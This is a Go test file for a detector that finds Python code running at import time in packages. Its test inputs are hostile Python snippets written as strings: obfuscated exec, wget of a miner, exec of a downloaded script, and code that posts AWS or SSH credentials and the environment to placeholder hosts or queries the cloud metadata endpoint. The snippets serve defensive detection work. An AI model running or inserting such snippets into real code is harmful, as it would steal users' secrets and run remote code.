package pycode

import (
	"strings"
	"testing"
)

// kinds returns "kind@line" for findings at import (or "kind@line(fn)"
// for the rest), in order.
func kinds(fs []Finding) string {
	var out []string
	for _, f := range fs {
		s := f.Kind + "@" + itoa(f.Line)
		if !f.AtImport {
			s += "(fn)"
		}
		out = append(out, s)
	}
	return strings.Join(out, " ")
}

func itoa(i int) string {
	const digits = "0123456789"
	if i < 10 {
		return digits[i : i+1]
	}
	return itoa(i/10) + digits[i%10:i%10+1]
}

func TestWhatRunsAtImport(t *testing.T) {
	for _, tt := range []struct {
		name, src, want string
	}{
		{"decoded exec at module level", "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n", "obfuscated-exec@2"},
		{"class body runs at import", "import zlib\nclass Config:\n    exec(zlib.decompress(b'x\\x9c'))\n", "obfuscated-exec@3"},
		{"decorator runs at import", "import subprocess\n@register(subprocess.check_output(['id']))\ndef f():\n    pass\n", "spawn@2"},
		{"default argument runs at import", "import os\ndef f(x=os.system('id')):\n    pass\n", "spawn@2"},
		{"function called at module level", "import subprocess\ndef _go():\n    subprocess.Popen(['/tmp/x'])\n_go()\n", "spawn@3"},
		{"called two levels deep", "import os\ndef a():\n    b()\ndef b():\n    os.system('x')\na()\n", "spawn@5"},
		{"function never called", "import subprocess\ndef build():\n    subprocess.run(['make'])\n", ""},
		{"main guard", "import subprocess\nif __name__ == '__main__':\n    subprocess.run(['x'])\nelse:\n    pass\n", ""},
		{"main guard in an and (rich's ansi.py)", "import sys, pty\nif sys.platform != 'win32' and __name__ == '__main__':\n    pty.spawn(sys.argv[1:])\n", ""},
		{"main guard in parentheses", "import sys, pty\nif (__name__ == '__main__') and True:\n    pty.spawn(sys.argv[1:])\n", ""},
		{"an or is no guard", "import sys, pty\nif sys.platform != 'win32' or __name__ == '__main__':\n    pty.spawn(sys.argv[1:])\n", "spawn@3"},
		{"else of main guard runs", "import subprocess\nif __name__ == \"__main__\":\n    pass\nelse:\n    subprocess.run(['x'])\n", "spawn@5"},
		{"lambda body", "import os\nf = lambda: os.system('x')\n", ""},
		{
			"multi-line signature closing at column 0 (pytest, pluggy)",
			"import subprocess\n\ndef run(\n    args,\n    *,\n    timeout=None,\n) -> int:\n    result = subprocess.run(\n        args,\n    )\n    return result.returncode\n",
			"",
		},
		{
			"call after a multi-line string inside a function",
			"import subprocess\n\ndef f():\n    doc = '''\nnot code\n'''\n    subprocess.run(['x'])\n",
			"",
		},
		// Dynamic code at import is a finding whatever its argument (what
		// runs is not in the file's code); the baseline tells the release
		// that always had it (six) from the one that adds it.
		{"exec of a literal", "exec('x = 1')\n", "dynamic-code@1"},
		// A shipped native library loaded at import; system libraries by
		// name are not shipped code.
		{"ctypes loads a shipped library", "import ctypes, os\n_lib = ctypes.CDLL(os.path.join(os.path.dirname(__file__), '_native.so'))\n", "native-load@2"},
		{"cdll.LoadLibrary of a relative path", "from ctypes import cdll\nlib = cdll.LoadLibrary('./libhelper.so')\n", "native-load@2"},
		{"libc by name", "import ctypes\nlibc = ctypes.CDLL('libc.so.6')\n", ""},
		{"find_library", "import ctypes, ctypes.util\nlib = ctypes.CDLL(ctypes.util.find_library('c'))\n", ""},
		{"the process's own symbols", "import ctypes\nme = ctypes.CDLL(None)\n", ""},
		{"loaded only when called", "import ctypes\ndef load(p):\n    return ctypes.CDLL(p)\n", ""},
		{"exec of a literal inside a function", "def f():\n    exec('x = 1')\n", ""},
		{"eval of a reversed literal", "eval(')1(tnirp'[::-1])\n", "dynamic-code@1"},
		{"compile alone runs nothing", "c = compile('x = 1', 'f', 'exec')\n", ""},
		{"runpy of a data file", "import runpy, os\nrunpy.run_path(os.path.join(os.path.dirname(__file__), 'data.bin'))\n", "dynamic-code@2"},
		{"timeit runs its statement", "import timeit\ntimeit.timeit(\"print('x')\", number=1)\n", "dynamic-code@2"},
		{"code.InteractiveInterpreter", "import code\ncode.InteractiveInterpreter().runsource('x = 1')\n", "dynamic-code@2"},
		{"pickle of a literal", "import pickle\npickle.loads(b'cbuiltins\\nprint\\n(Vx\\ntR.')\n", "dynamic-code@2"},
		{"one environment key", "import os, requests\nhome = os.environ.get('HOME')\nrequests.get('https://pypi.org')\n", ""},
		// What runs one step from the top level: methods, class hooks,
		// decorators by name, callbacks handed to the standard library,
		// chains of any depth.
		{"a method called at import", "import os\nclass Setup:\n    def go(self):\n        os.system('x')\nSetup().go()\n", "spawn@4"},
		{"a method of a module instance", "import os\nclass Setup:\n    def go(self):\n        os.system('x')\ns = Setup()\ns.go()\n", "spawn@4"},
		{"__init__ of a class instantiated at import", "import os\nclass Setup:\n    def __init__(self):\n        os.system('x')\nSetup()\n", "spawn@4"},
		{"__init_subclass__ of a base", "import os\nclass Base:\n    def __init_subclass__(cls):\n        os.system('x')\nclass Child(Base):\n    pass\n", "spawn@4"},
		{"a metaclass", "import os\nclass Meta(type):\n    def __new__(m, *a):\n        os.system('x')\n        return type.__new__(m, *a)\nclass C(metaclass=Meta):\n    pass\n", "spawn@4"},
		{"__set_name__ of a descriptor", "import os\nclass D:\n    def __set_name__(self, owner, name):\n        os.system('x')\nclass C:\n    f = D()\n", "spawn@4"},
		{"__class_getitem__", "import os\nclass G:\n    def __class_getitem__(cls, k):\n        os.system('x')\nG[int]\n", "spawn@4"},
		{"a decorator used by name", "import os\ndef reg(f):\n    os.system('x')\n    return f\n@reg\ndef g():\n    pass\n", "spawn@3"},
		{"a thread's target", "import os, threading\ndef w():\n    os.system('x')\nthreading.Thread(target=w).start()\n", "spawn@3"},
		{"an exit hook", "import os, atexit\ndef w():\n    os.system('x')\natexit.register(w)\n", "spawn@3"},
		{"a partial called", "import os, functools\ndef w(c):\n    os.system(c)\nfunctools.partial(w, 'x')()\n", "spawn@3"},
		{"a lambda handed to a thread", "import os, threading\nthreading.Thread(target=lambda: os.system('x')).start()\n", "spawn@2"},
		{"a chain five deep", "import os\ndef a():\n    b()\ndef b():\n    c()\ndef c():\n    d()\ndef d():\n    e()\ndef e():\n    os.system('x')\na()\n", "spawn@11"},
		{"a cmdclass's methods run when setup.py builds", "import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass Install(install):\n    def run(self):\n        os.system('x')\nsetup(name='p', cmdclass={'install': Install})\n", "spawn@6"},
		{"sys.modules['subprocess']", "import sys\nsys.modules['subprocess'].Popen(['x'])\n", "spawn@2"},
		{"builtins.__dict__.get('exec')", "import builtins\nbuiltins.__dict__.get('exec')('x = 1')\n", "dynamic-code@2"},
		{"exec handed to map", "list(map(exec, ['x = 1']))\n", "dynamic-code@1"},
		{"credentials through pathlib's /", "import pathlib, requests\ncreds = (pathlib.Path.home() / '.aws' / 'credentials').read_text()\nrequests.post('http://x', data=creds)\n", "env-exfiltration@2"},
		{"credentials through os.path.join", "import os, requests\nkey = open(os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')).read()\nrequests.post('http://x', data=key)\n", "env-exfiltration@2"},
		{"a secret sent in a DNS lookup", "import os, socket\nsocket.gethostbyname(os.environ['AWS_SECRET_ACCESS_KEY'] + '.x.example')\n", "env-exfiltration@2"},
		{"a method never called", "import os\nclass Setup:\n    def go(self):\n        os.system('x')\nSetup()\n", ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if got := kinds(atImport(Analyze([]byte(tt.src)))); got != tt.want {
				t.Errorf("got %q, want %q", got, tt.want)
			}
		})
	}
}

func atImport(fs []Finding) []Finding {
	var out []Finding
	for _, f := range fs {
		if f.AtImport {
			out = append(out, f)
		}
	}
	return out
}

func TestObfuscations(t *testing.T) {
	for _, tt := range []struct {
		name, src, want string
	}{
		{"getattr with a concatenated name", "getattr(__builtins__, 'ex' + 'ec')(payload)\n", "obfuscated-exec@1"},
		{"reversed name", "import builtins\ngetattr(builtins, 'cexe'[::-1])(payload)\n", "obfuscated-exec@2"},
		{"globals lookup", "globals()['__builtins__']['exec'](payload)\n", "obfuscated-exec@1"},
		{"vars of builtins", "import builtins\nvars(builtins)['ev' 'al'](payload)\n", "obfuscated-exec@2"},
		{"chr join", "getattr(__builtins__, ''.join(map(chr, [101, 120, 101, 99])))(p)\n", "obfuscated-exec@1"},
		{"chr generator", "f = getattr(__builtins__, ''.join(chr(c) for c in [101, 120, 101, 99]))\nf(p)\n", "obfuscated-exec@2"},
		{"rot13 name", "import codecs, builtins\ngetattr(builtins, codecs.decode('rkrp', 'rot13'))(p)\n", "obfuscated-exec@2"},
		{"rot13 payload", "import codecs\nexec(codecs.decode('cevag(1)', 'rot_13'))\n", "obfuscated-exec@2"},
		{"hex payload", "exec(bytes.fromhex('7072696e74283129').decode())\n", "obfuscated-exec@1"},
		{"__import__ with a computed module", "__import__('o' + 's').system('id')\n", "spawn@1"},
		{"importlib", "import importlib\nimportlib.import_module('subpro' + 'cess').Popen(['sh'])\n", "spawn@2"},
		{"alias chain", "import subprocess as sp\nrun = sp.Popen\nrun(['x'])\n", "spawn@3"},
		{"star import", "from subprocess import *\nPopen(['x'])\n", "spawn@2"},
		{"from-import alias", "from os import system as s\ns('id')\n", "spawn@2"},
		{"base64-decoded module name", "import base64\n__import__(base64.b64decode('b3M=').decode()).system('x')\n", "spawn@2"},
		{
			"payload split over lines",
			"import base64\npayload = (\n    'cHJpbnQo'\n    'MSk='\n)\ndata = base64.b64decode(\n    payload\n)\nexec(\n    data\n)\n",
			"obfuscated-exec@9",
		},
		{"decoded bytes to ctypes", "import ctypes, base64\nbuf = ctypes.create_string_buffer(base64.b64decode(SC))\n", "obfuscated-exec@2"},
		{"pickle of decoded data", "import pickle, base64\npickle.loads(base64.b64decode(B))\n", "obfuscated-exec@2"},
		{"exec of a download", "import urllib.request\nexec(urllib.request.urlopen('http://x/s').read())\n", "download-exec@2"},
		{"wget started", "import subprocess\nsubprocess.Popen(['wget', 'http://x/miner', '-O', '/tmp/m'])\n", "download-exec@2"},
		{"download then run", "import subprocess, urllib.request\nurllib.request.urlretrieve('http://x/d', '/tmp/d')\nsubprocess.Popen(['/tmp/d'])\n", "download-exec@3"},
		{"environment posted", "import os, requests\nrequests.post('http://x', json=dict(os.environ))\n", "env-exfiltration@2"},
		{"environment through a name", "import os, requests\nenv = os.environ.copy()\nrequests.post('http://x', data=str(env))\n", "env-exfiltration@2"},
		{"cloud credentials sent", "import os, requests\ncreds = open(os.path.expanduser('~/.aws/credentials')).read()\nrequests.post('http://x', data=creds)\n", "env-exfiltration@2"},
		{"metadata endpoint", "import urllib.request\nurllib.request.urlopen('http://169.254.169.254/latest/meta-data/iam/')\n", "env-exfiltration@2"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			if got := kinds(atImport(Analyze([]byte(tt.src)))); got != tt.want {
				t.Errorf("got %q, want %q", got, tt.want)
			}
		})
	}
}

func TestFindingsInsideFunctions(t *testing.T) {
	// Decoded exec inside a function nobody calls at import is still worth
	// a look, marked as such; a process started there is not.
	src := "import base64, subprocess\ndef later():\n    exec(base64.b64decode(P))\n    subprocess.run(['x'])\n"
	if got := kinds(Analyze([]byte(src))); got != "obfuscated-exec@3(fn)" {
		t.Errorf("got %q", got)
	}
}

func TestEvidenceHasLineAndContext(t *testing.T) {
	src := "import base64\n\n\nclass Config:\n    x = 1\n    exec(base64.b64decode(P))\n    y = 2\n"
	fs := Analyze([]byte(src))
	if len(fs) != 1 {
		t.Fatalf("findings: %+v", fs)
	}
	f := fs[0]
	want := "     4| class Config:\n     5|     x = 1\n>    6|     exec(base64.b64decode(P))\n     7|     y = 2\n     8| "
	if f.Line != 6 || f.Code != want {
		t.Errorf("line %d, code:\n%s\nwant:\n%s", f.Line, f.Code, want)
	}
	if !strings.Contains(f.Message, "when the module is imported") {
		t.Errorf("message: %s", f.Message)
	}
}

func TestBrokenSourceStillAnalysed(t *testing.T) {
	src := "import os\ndef broken(:\n    pass\nos.system('id')\n"
	if got := kinds(atImport(Analyze([]byte(src)))); got != "spawn@4" {
		t.Errorf("got %q", got)
	}
}

func FuzzAnalyze(f *testing.F) {
	f.Add([]byte("import os\nos.system('x')\n"))
	f.Add([]byte("getattr(__builtins__, 'ex' + 'ec')(''.join(map(chr, [1, 2])))[::-1]\n"))
	f.Add([]byte("exec(codecs.decode('x', 'rot13'))\nclass A:\n  def f(x=eval(b64decode('')))->None: ..."))
	f.Fuzz(func(t *testing.T, src []byte) {
		for _, fd := range Analyze(src) {
			if fd.Line < 1 || fd.Kind == "" {
				t.Fatalf("bad finding %+v", fd)
			}
		}
	})
}

// BenchmarkAnalyze: a module the pre-filter lets through (it starts
// processes and reads the environment inside functions), parsed and
// analysed.
func BenchmarkAnalyze(b *testing.B) {
	src := []byte("import os, subprocess\n\n" + strings.Repeat("def g(x):\n    return subprocess.run(['ls', os.environ.get('HOME', x)])\n", 200))
	b.SetBytes(int64(len(src)))
	for i := 0; i < b.N; i++ {
		Analyze(src)
	}
}
